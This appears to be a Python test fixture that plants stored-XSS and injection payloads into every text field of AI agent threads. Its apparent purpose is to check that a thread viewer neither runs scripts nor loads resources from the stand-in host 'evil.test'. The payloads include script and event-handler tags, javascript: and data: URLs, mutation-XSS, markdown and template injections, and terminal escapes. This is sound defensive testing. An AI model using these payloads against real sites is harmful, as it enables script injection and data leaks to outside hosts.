"""Stored texts that try to run a script, to fetch something or to break out of where they are shown.

Each would set `window.planted` in some frame, open a dialog of the browser, or ask `evil.test` for something.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from tests.mission.searches import put
from tests.page.home import writing
from tests.threads.rollout_lines import agent, call, ended, event, line, output, started, user

RUN = "window.planted=1"
EVIL = "http://evil.test"
_ESC, _BELL = "\x1b", "\x07"

HTML = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg onload={RUN}>",
    f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={RUN}/>#x'/></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x=9 y=9>click</text></a></svg>',
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe><iframe src=javascript:{RUN}></iframe>",
    f"<a href='javascript:{RUN}'>click</a><a href=' &#106;avascript:{RUN}'>click</a>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e><video src={EVIL}/v onerror={RUN}>",
    f"<img src={EVIL}/pixel.png srcset='{EVIL}/2.png 2x'><link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import '{EVIL}/y.css';body{{background:url({EVIL}/b.png)}}</style>",
    f"<div style='background:url({EVIL}/s.png)' onmouseover={RUN}>over</div>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'><base href={EVIL}/>",
    f"<form action={EVIL}/f><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>go</button></form>",
    f"<details open ontoggle={RUN}><marquee onstart={RUN}>x</marquee></details>",
    f"<dialog open oncancel={RUN}><textarea></textarea></dialog></div></main></body></html><script>{RUN}</script>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><script>{RUN}</script></template><xmp><img src=x onerror={RUN}></xmp><!--><img src=x onerror={RUN}>-->",
    f"<img name=getElementById><form id=page><input name=attributes><a id=planted href=javascript:{RUN}></a></form>",
]

MARKDOWN = [
    f"[click](javascript:{RUN}) [click](JaVaScRiPt:{RUN}) [click](java\tscript:{RUN}) <javascript:{RUN}>",
    f"[click](&#106;&#97;vascript:{RUN}) [click](java&NewLine;script:{RUN}) [click](%6aavascript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>) [click](vbscript:{RUN}) [click](\x01javascript:{RUN})",
    f"[click][ref] and ![picture][img]\n\n[ref]: javascript:{RUN} 'title'\n[img]: {EVIL}/ref.png",
    f'![picture]({EVIL}/p.png) ![x](x.png" onerror="{RUN}) ![<img src=x onerror={RUN}>]({EVIL}/alt.png)',
    f'[click]({EVIL}/ "t" onmouseover="{RUN}") [<img src=x onerror={RUN}>]({EVIL}/l)',
    f"```html\n<script>{RUN}</script>\n<img src=x onerror={RUN}>\n```",
    f'```"><img/src=x/onerror={RUN}>\ncode\n```\n\n~~~svg onload={RUN}\n<svg onload={RUN}>\n~~~',
    f"| <img src=x onerror={RUN}> | [click](javascript:{RUN}) |\n|---|---|\n| `<img src=x onerror={RUN}>` | {EVIL}/t |",
    f"# <img src=x onerror={RUN}>\n\n- [ ] <svg onload={RUN}>\n\n> <script>{RUN}</script>",
    f"text\n\n<!-- <img src=x onerror={RUN}> -->\n\n<?xml <svg onload={RUN}> ?>",
    f"`<img src=x onerror={RUN}>` **<b onmouseover={RUN}>bold</b>** ~~<svg onload={RUN}>~~ <b/onclick={RUN}>x",
]

OTHER = [
    f"{_ESC}]8;;javascript:{RUN}{_BELL}click{_ESC}]8;;{_BELL} {_ESC}[31mred{_ESC}[0m",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> javascript:{RUN}",
    f"');{RUN};// \\\";{RUN};// `;{RUN};//",
    "__proto__",
    "constructor",
    "\u202egnp.exe\u202c \u2066hidden\u2069 \ufeff \u0000".replace("\u0000", "\ufffd"),
]

TEXTS = [*HTML, *MARKDOWN, *OTHER]
PICTURES = [
    f"javascript:{RUN}",
    f"{EVIL}/remote.png",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>",
    f'data:image/png;base64,AAAA" onerror="{RUN}',
]

_ALL = "01a20581-0000-7000-8000-0000000000bb"


def plant(home: Path) -> list[str]:
    """Write the texts wherever a thread has text. Returns the ids of its threads."""
    put(home, _ALL, *_by_codex(), **_meta())
    with writing(home) as writer:
        ids = [_ALL]
        parent: str | None = None
        for text in TEXTS:
            thread_id = writer.start(name=text, cwd=f"/w/{text}", parent_thread_id=parent, agent_nickname=text)
            writer.call("turn_start", thread_id=thread_id, input=text)
            writer.call("turn_append", thread_id=thread_id, items=_items(text))
            writer.call("turn_complete", thread_id=thread_id, status="failed", error=text)
            writer.call("thread_update", thread_id=thread_id, tags=[_tag(text)], git_info={"branch": text})
            writer.call("thread_unsubscribe", thread_id=thread_id)
            ids.append(thread_id)
            parent = None if parent else thread_id  # every second one is the sub-agent of the one before
    return ids


def _tag(text: str) -> str:
    return "".join(letter for letter in text if letter.isprintable())[:40]


def _items(text: str) -> list[dict[str, Any]]:
    return [
        {"type": "agentMessage", "text": text},
        {"type": "reasoning", "text": text},
        {"type": "plan", "text": text},
        {"type": "toolCall", "call_id": "c", "name": text, "arguments": {"cmd": text, text: [text]}},
        {"type": "toolOutput", "call_id": "c", "output": text, "success": False},
    ]


def _by_codex() -> list[Any]:
    text = "\n\n".join(TEXTS)
    return [
        started("t"),
        user(text, images=PICTURES, local_images=[f"/w/{text}.png"]),
        event("agent_reasoning", text=text),
        call("c", '{"cmd": "ls"}'),
        output(
            "c", [{"type": "input_text", "text": text}, *({"type": "input_image", "image_url": u} for u in PICTURES)]
        ),
        line("compacted", message=text),
        agent(text),
        ended("t"),
    ]


def _meta() -> dict[str, Any]:
    text = HTML[3]
    return {
        "cwd": f"/w/{text}",
        "originator": text,
        "cli_version": text,
        "model_provider": text,
        "agent_nickname": text,
        "agent_role": text,
        "git": {"branch": text, "commit_hash": text, "repository_url": f"javascript:{RUN}"},
    }
